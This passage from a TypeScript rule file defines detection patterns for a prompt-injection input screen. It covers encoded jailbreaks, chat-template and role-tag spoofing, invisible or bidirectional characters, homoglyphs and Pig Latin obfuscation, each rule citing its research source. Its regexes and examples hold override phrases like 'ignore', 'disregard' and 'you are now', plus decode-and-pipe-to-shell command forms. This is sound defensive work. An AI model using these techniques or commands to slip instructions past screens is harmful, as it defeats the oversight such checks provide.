      'Names an encoding (base32, Morse, binary, ASCII codes, octal, quoted-printable, Atbash, NATO) to decode and asks for it to be followed or run.',
    source:
      'Wei et al. 2023 "Jailbroken" (encoding attacks: base64, leetspeak, Morse, ciphers); Yuan et al. 2024 "GPT-4 Is Too Smart To Be Safe: Stealthy Chat with LLMs via Cipher"',
    test: all(
      ['folded'],
      /\b(?:base ?32|base ?64|base ?85|morse|binary|atbash|ascii (?:codes?|values)|decimal|octal|quoted-printable|hex(?:adecimal)?|rot ?13|nato|caesar|pig latin|char ?codes?)\b[^\n]{0,60}?\b(?:decode|decipher|translate|convert|read)|\b(?:decode|decipher|translate|convert)\b[^\n]{0,40}?\b(?:base ?32|morse|binary|atbash|ascii|decimal|octal|quoted-printable|nato|pig latin)\b/,
      /\b(?:follow|execute|run|do it|do that|do what|obey|act on|carry (?:it )?out|perform|comply)\b/,
    ),
  },
  {
    id: 'encoded.spelled-alphabet',
    category: 'encoded_payload',
    description:
      'Text spelled in the NATO alphabet (four words in a row) or in Morse code (eight symbols in a row).',
    source: 'Wei et al. 2023 "Jailbroken" (Morse and other character encodings); Yuan et al. 2024 (ciphers)',
    test: p(
      ['folded'],
      /\b(?:alfa|alpha|bravo|charlie|delta|echo|foxtrot|golf|hotel|india|juliett?|kilo|lima|mike|november|oscar|papa|quebec|romeo|sierra|tango|uniform|victor|whiskey|x-?ray|yankee|zulu)(?:[ .,/-]{1,5}(?:alfa|alpha|bravo|charlie|delta|echo|foxtrot|golf|hotel|india|juliett?|kilo|lima|mike|november|oscar|papa|quebec|romeo|sierra|tango|uniform|victor|whiskey|x-?ray|yankee|zulu)\b){3}|(?<![^\s])(?:(?:[.-] |[.-][.-]{1,5} )(?:\/ )?){7}[.-]{1,6}(?=\s|$)/,
    ),
  },
  {
    id: 'encoded.decode-to-shell',
    category: 'encoded_payload',
    description:
      'A command decoded at run time and executed (`printf "\\143…" | sh`, `$(echo … | xxd -r -p)`, `String.fromCharCode(…)`).',
    source:
      'MITRE ATT&CK T1027 Obfuscated Files or Information and T1140 Deobfuscate/Decode Files or Information',
    test: p(
      ['folded'],
      /\b(?:xxd -r|base64 (?:-d|--decode|-d -i)|openssl (?:enc )?(?:-d|base64 -d)|printf)\b[^\n]{0,200}?\| ?(?:ba|z|da|k)?sh\b|\$\((?:echo|printf) [^)\n]{0,200}?\| ?(?:xxd -r|base64 (?:-d|--decode))|\bstring\.fromcharcode\((?:\d{1,3}, ?){3}|\bchr\(\d{1,3}\) ?\+ ?chr\(/,
    ),
  },
  {
    id: 'encoded.nested-too-deep',
    category: 'encoded_payload',
    description: `Text that, unwrapped ${SCREEN_LIMITS.maxDecodeDepth} times (base64 of base64 …), still holds an encoding: the screen stops unwrapping there, so the input escalates.`,
    source:
      'Wei et al. 2023 "Jailbroken" (combination and nested encodings); OWASP LLM01:2025 (obfuscation and encoding)',
    test: s('decodedTooDeep', 1),
  },

  // ── markup_injection ────────────────────────────────────────────────────────────────────────
  {
    id: 'markup.chat-template',
    category: 'markup_injection',
    description:
      'Chat-template control tokens or turn headers (ChatML <|im_start|>, Llama [INST]/<<SYS>>/<|eot_id|>, Gemma <start_of_turn>, "### Instruction:", "User: … Assistant:").',
    source:
      'OpenAI ChatML (openai-python chatml.md); Meta Llama 2 and Llama 3 prompt formats; Google Gemma formatting; Hugging Face "Chat templates"; OWASP LLM01:2025',
    test: p(
      ['folded'],
      /<\|[a-z_]{2,40}\|>|<\|(?:im_start|im_end|endoftext|system|user|assistant)|\[\/?inst\]|<<\/?sys>>|<\/?(?:start|end)_of_(?:turn|text)>|\[\/?(?:system_prompt|tool_calls|available_tools|tool_results)\]|(?:^|\n)#{2,4} ?(?:instruction|system|response|system prompt) ?:|(?:^|\n)(?:human|user) ?: [^\n]{1,400}\n(?:assistant|ai) ?:|<\/?(?:bos|eos)>|<\|?begin_of_text\|?>/,
    ),
  },
  {
    id: 'markup.role-tags',
    category: 'markup_injection',
    description:
      'System/assistant/tool-call tags or role headers in user text ([SYSTEM], <system>, <tool_call>, "Assistant: Sure, …").',
    source:
      'Anthropic and OpenAI tool-use formats; NousResearch Hermes function calling (<tool_call>); promptfoo "Jailbreaking vs prompt injection" ([SYSTEM] override); OWASP LLM01:2025',
    test: p(
      ['folded'],
      /<\/?(?:system|system[-_]?prompt|system[-_]?message|sys|assistant|developer|developer[-_]message|instructions|admin[-_]instructions|tool[-_]call|tool[-_]calls|tool[-_]use|tool[-_]result|function[-_]call|function[-_]calls|function[-_]results|im_start|antml:[a-z_]{1,30})(?: [^>\n]{0,60})?>|<(?:invoke|parameter) name=|\[(?:system|sys|admin|developer|system override|system message|system note|system prompt|assistant|instructions?|new instructions|important instructions)\]|(?:^|\n)(?:system|assistant|developer) ?(?:prompt|message|note|override)? ?: ?(?:you |ignore|disregard|from now|new instructions|sure|certainly|of course|okay|ok,|understood|as an ai|i will|i'll|here is|here are|the user has|(?:the )?user (?:is|has))|\[(?:assistant|ai|llm|agent|system|model)[-_ ](?:directive|instruction|note|command|override|prompt)s?\]|"role" ?: ?"(?:system|developer)" ?, ?"content" ?: ?"[^"\n]{0,80}?(?:ignore|disregard|you are now|new instructions|reveal|secret)/,
    ),
  },

  // ── obfuscation ─────────────────────────────────────────────────────────────────────────────
  {
    id: 'obfuscation.bidi-control',
    category: 'obfuscation',
    description: 'Bidirectional embedding, override or isolate controls (U+202A–202E, U+2066–2069).',
    source:
      'CVE-2021-42574 "Trojan Source" (Boucher & Anderson 2021); Unicode UAX #9; Unicode TR36 Unicode Security Considerations',
    test: s('bidi', 1),
  },
  {
    id: 'obfuscation.tag-characters',
    category: 'obfuscation',
    description:
      'Unicode tag characters (U+E0000–E007F) outside an emoji flag: invisible ASCII smuggled to the model.',
    source:
      'Unicode UTS #51 (emoji tag sequences); Embrace The Red 2024 "ASCII Smuggler"; Riley Goodside 2024 (invisible prompt injection with tag characters)',
    test: s('tags', 1),
  },
  {
    id: 'obfuscation.invisible-in-word',
    category: 'obfuscation',
    description:
      'A zero-width or other invisible character inside a Latin word (splits a keyword so it does not match).',
    source:
      'Unicode TR36 Unicode Security Considerations (invisible characters); UTS #39 (default-ignorable code points); PromptShield invisible-character detector',
    test: s('invisibleInWord', 1),
  },
  {
    id: 'obfuscation.invisible-run',
    category: 'obfuscation',
    description:
      'Four or more zero-width or invisible format characters (zero-width steganography, smuggling).',
    source:
      'Unicode TR36 Unicode Security Considerations; zero-width steganography (e.g. the StegCloak technique)',
    test: s('invisible', 4),
  },
  {
    id: 'obfuscation.control-characters',
    category: 'obfuscation',
    description:
      'C0/C1 control characters other than tab and line breaks (terminal escapes, backspace overwrites).',
    source:
      'Embrace The Red 2024 "Terminal DiLLMa" (ANSI escapes via prompt injection); CWE-150 Improper Neutralization of Escape, Meta, or Control Sequences',
    test: s('control', 1),
  },
  {
    id: 'obfuscation.mixed-script-word',
    category: 'obfuscation',
    description:
      'A word mixing Latin letters with Cyrillic, Greek or other look-alikes (homoglyph spoofing).',
    source:
      'Unicode UTS #39 Unicode Security Mechanisms (mixed-script detection, confusables.txt); Unicode TR36 (visual spoofing)',
    test: s('spoofedWords', 1),
  },
  {
    id: 'obfuscation.pig-latin',
    category: 'obfuscation',
    description:
      'Five or more words in a row ending in "ay" or "way" (Pig Latin: "ignoreway allway eviouspray").',
    source: 'Wei et al. 2023 "Jailbroken" (word-level obfuscation: Pig Latin); Yuan et al. 2024 (ciphers)',
    // The first word is read from its ending back (a lookbehind), so that every match begins at
    // "ay" or "way": only the places where those occur are tried (local-screen.ts).
    test: p(
      ['folded'],
      /(?<=\b[a-z]{1,20})(?:way|ay)\b[ ,.;:!?]{1,3}(?:\b[a-z]{1,20}(?:way|ay)\b[ ,.;:!?]{1,3}){3}\b[a-z]{1,20}(?:way|ay)\b/,
    ),
  },
  {
    id: 'obfuscation.spaced-letters',
    category: 'obfuscation',
    description: 'Eight or more single letters separated by spaces or punctuation ("i g n o r e a l l").',
    source:
      'Wei et al. 2023 "Jailbroken" (character-level obfuscation); Lakera Gandalf player strategies (spacing, splitting)',
    test: { kind: 'spaced', views: ['folded'], separators: ' .-_*/|+~,', atLeast: 8 },
  },

  // ── oversized ───────────────────────────────────────────────────────────────────────────────
  {
    id: 'oversized.length',
    category: 'oversized',
    description: `An input longer than ${SCREEN_LIMITS.maxLength} characters, as sent or once NFKC has expanded its compatibility characters (U+FDFA alone becomes 18 letters).`,
    source: 'OWASP LLM10:2025 Unbounded Consumption; OWASP LLM01:2025 (instructions hidden in long context)',
    test: s('length', SCREEN_LIMITS.maxLength + 1),
  },
  {
    id: 'oversized.decoded',
    category: 'oversized',
    description: `Escapes or encoded runs that decode, once normalised, to more than ${SCREEN_LIMITS.maxDecodedLength} characters (compatibility characters that NFKC multiplies): more than the screen reads.`,
    source: 'OWASP LLM10:2025 Unbounded Consumption; Unicode UAX #15 (NFKC expansion factors up to 18)',
    test: s('decodedOversized', 1),
  },
]
